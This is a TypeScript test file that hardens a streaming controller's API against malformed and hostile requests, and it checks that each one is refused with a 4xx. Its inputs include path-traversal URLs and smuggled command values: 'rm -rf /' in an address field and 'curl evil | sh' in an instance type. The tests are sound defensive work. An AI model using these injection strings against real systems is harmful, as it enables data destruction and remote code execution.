// What a careless or hostile client gets from the controller: a 4xx that says what was wrong, never
// a 500, and the controller stays up. Tokens: the admin token only in the Authorization header; a
// short or empty one refused at start, naming where it came from.
import assert from 'node:assert/strict';
import { promises as fs } from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import { Writable } from 'node:stream';
import { pino } from 'pino';
import path from 'node:path';
import type { Controller } from '../../controller/controller.js';
import { startTestController } from '../support/controller.js';
import { freePort, run, tempDir } from '../support/run.js';

const ADMIN = 'hardening-test-admin-token-0123';

/** A raw request (fetch would normalise the path). */
function raw(port: number, method: string, p: string, headers: Record<string, string> = {}, body?: string):
Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request({ host: '127.0.0.1', port, method, path: p, headers }, (res) => {
      let text = '';
      res.on('data', (d: Buffer) => { text += d.toString(); });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

describe('the controller refuses bad requests with a 4xx and stays up', function () {
  this.timeout(60_000);
  let dir: string;
  let c: Controller;
  let port: number;
  const admin = { authorization: `Bearer ${ADMIN}` };
  const json = { ...admin, 'content-type': 'application/json' };

  before(async () => {
    dir = await tempDir('hardening');
    port = await freePort();
    c = await startTestController(dir, '127.0.0.1', port, ADMIN);
  });
  after(async () => {
    await c?.close();
    if (dir) await fs.rm(dir, { recursive: true, force: true });
  });

  it('malformed percent-encoding, a body nested too deeply, an unsupported charset, a body too large', async () => {
    const bad = await raw(port, 'GET', '/api/v1/streams/live/%E0%A4%A', admin);
    assert.equal(bad.status, 400, bad.body);
    assert.match(bad.body, /malformed percent-encoding/);
    const deep = `{"app":"live","stream":"deep","ladder":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const nested = await raw(port, 'POST', '/api/v1/streams', json, deep);
    assert.ok(nested.status >= 400 && nested.status < 500, `${nested.status} ${nested.body.slice(0, 200)}`);
    const latin = await raw(port, 'POST', '/api/v1/streams', { ...admin, 'content-type': 'application/json; charset=latin1' },
      '{"app":"live","stream":"x"}');
    assert.equal(latin.status, 415, latin.body);
    assert.match((JSON.parse(latin.body) as { message: string }).message, /unsupported charset "LATIN1"/);
    const big = await raw(port, 'POST', '/api/v1/streams', json, `{"app":"${'a'.repeat(300_000)}"}`);
    assert.equal(big.status, 413, big.body);
    assert.equal((await raw(port, 'GET', '/api/v1/health')).status, 200, 'still up');
  });

  it('the dashboard\'s files only: traversal and dot-files are 404s', async () => {
    for (const p of ['/dashboard/..%2f..%2fpackage.json', '/dashboard/%2e%2e/%2e%2e/package.json', '/dashboard/.hidden',
      '/dashboard/..%5c..%5cpackage.json']) {
      const r = await raw(port, 'GET', p);
      assert.equal(r.status, 404, `${p}: ${r.status} ${r.body.slice(0, 200)}`);
      assert.doesNotMatch(r.body, /dvr-appliance/, `${p} gave the project's package.json`);
    }
  });

  it('an origin callback with a field of the wrong type is a 400 naming the field', async () => {
    const hook = await raw(port, 'POST', '/api/v1/hooks/publish', { authorization: `Bearer ${c.agentToken}`,
      'content-type': 'application/json' }, '{"app":"live","name":["a","b"],"key":"k"}');
    assert.equal(hook.status, 400, hook.body);
    assert.match(hook.body, /hook publish: 'name' must be one string/);
  });

  it('a heartbeat is checked before it reaches the store: a bad address or figure is a 400 naming it, and no node is added', async () => {
    const agentJson = { authorization: `Bearer ${c.agentToken}`, 'content-type': 'application/json' };
    for (const [body, field] of [[{ nodeId: 'hb1', role: 'edge', address: '10.0.0.1; rm -rf /' }, /\$\.address/],
      [{ nodeId: 'hb1', role: 'edge', system: { cpuLoadPercent: 'high' } }, /\$\.system\.cpuLoadPercent/],
      [{ nodeId: 'hb1', role: 'transcoder', streams: [{ app: 'live', stream: '../../etc' }] }, /\$\.streams\[0\]\.stream/]] as const) {
      const r = await raw(port, 'POST', '/api/v1/nodes/hb1/heartbeat', agentJson, JSON.stringify(body));
      assert.equal(r.status, 400, r.body);
      assert.match(r.body, field);
    }
    assert.equal(await c.store.node('hb1'), undefined);
    const ok = await raw(port, 'POST', '/api/v1/nodes/hb1/heartbeat', agentJson,
      JSON.stringify({ nodeId: 'hb1', role: 'edge', system: { cpuLoadPercent: null }, connections: 3 }));
    assert.equal(ok.status, 200, ok.body);
  });

  it('a ladder that names a rendition twice is refused when the stream is created', async () => {
    const r = await fetch(`http://127.0.0.1:${port}/api/v1/streams`, { method: 'POST', headers: json,
      body: JSON.stringify({ app: 'live', stream: 'twice', mode: 'transcode',
        ladder: [{ name: 'r', height: 360 }, { name: 'r', height: 720 }] }) });
    assert.equal(r.status, 400);
    assert.match(await r.text(), /ladder\[1\]\.name: 'r' is already the name of ladder\[0\]/);
  });

  it('a launch config\'s instance type and image are refused unless made of safe characters (the provider\'s script takes them)',
    async () => {
      const config = JSON.parse(await fs.readFile(path.join(process.cwd(), 'launch-configs', 'lab.json'), 'utf8')) as
        { launchconfig: { targets: { target: Array<{ instanceType: string }> } } };
      const first = config.launchconfig.targets.target[0];
      if (first) first.instanceType = 's-1vcpu; curl evil | sh';
      const r = await fetch(`http://127.0.0.1:${port}/api/v1/launch-configs`, { method: 'POST', headers: json, body: JSON.stringify(config) });
      assert.equal(r.status, 400);
      assert.match(await r.text(), /target\[0\]\.instanceType: must match pattern/);
    });

  it('the admin token only in the Authorization header, never in the URL', async () => {
    const r = await raw(port, 'GET', `/api/v1/streams?token=${ADMIN}`);
    assert.equal(r.status, 401);
    assert.match(r.body, /Authorization header/);
    assert.equal((await raw(port, 'GET', '/api/v1/streams', admin)).status, 200);
  });
});

describe('controller tokens at start', () => {
  it('refuses a short DVR_ADMIN_TOKEN and an empty token file, naming where each came from', async () => {
    const dir = await tempDir('tokens');
    try {
      await assert.rejects(startTestController(dir, '127.0.0.1', await freePort(), 'short'),
        /DVR_ADMIN_TOKEN: 5 characters; the admin token needs at least 16/);
      await fs.writeFile(path.join(dir, 'admin-token'), '  \n');
      await assert.rejects(startTestController(path.join(dir), '127.0.0.1', await freePort(), undefined as unknown as string),
        new RegExp(`${path.join(dir, 'admin-token')}: empty`));
    } finally {
      await fs.rm(dir, { recursive: true, force: true });
    }
  });
});

describe('the controller over TLS', () => {
  it('serves HTTPS with the certificate it is given; without one, beyond loopback, it warns that tokens cross in clear', async () => {
    const dir = await tempDir('tls');
    const [cert, key] = [path.join(dir, 'cert.pem'), path.join(dir, 'key.pem')];
    const made = await run('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '1',
      '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1', '-keyout', key, '-out', cert]);
    assert.equal(made.code, 0, made.stderr);
    const port = await freePort();
    const c = await startTestController(path.join(dir, 'a'), '127.0.0.1', port, ADMIN, { tls: { certFile: cert, keyFile: key } });
    try {
      assert.equal(c.url, `https://127.0.0.1:${port}`);
      const ca = await fs.readFile(cert);
      const status = await new Promise<number>((resolve, reject) => {
        https.get(`${c.url}/api/v1/health`, { ca }, (res) => { res.resume(); resolve(res.statusCode ?? 0); }).on('error', reject);
      });
      assert.equal(status, 200);
      const plain = await raw(port, 'GET', '/api/v1/health').then((r) => r.status, () => 0);
      assert.notEqual(plain, 200, 'no plain HTTP on the TLS port');
    } finally {
      await c.close();
    }
    const lines: string[] = [];
    const log = pino({ level: 'warn' }, new Writable({ write(chunk: Buffer, _e, done) { lines.push(chunk.toString()); done(); } }));
    const open = await startTestController(path.join(dir, 'b'), '0.0.0.0', await freePort(), ADMIN, { log });
    await open.close();
    assert.ok(lines.some((l) => /listens on 0\.0\.0\.0 without TLS: the admin and agent tokens cross the network in clear text/.test(l)),
      lines.join(''));
    await fs.rm(dir, { recursive: true, force: true });
  });
});
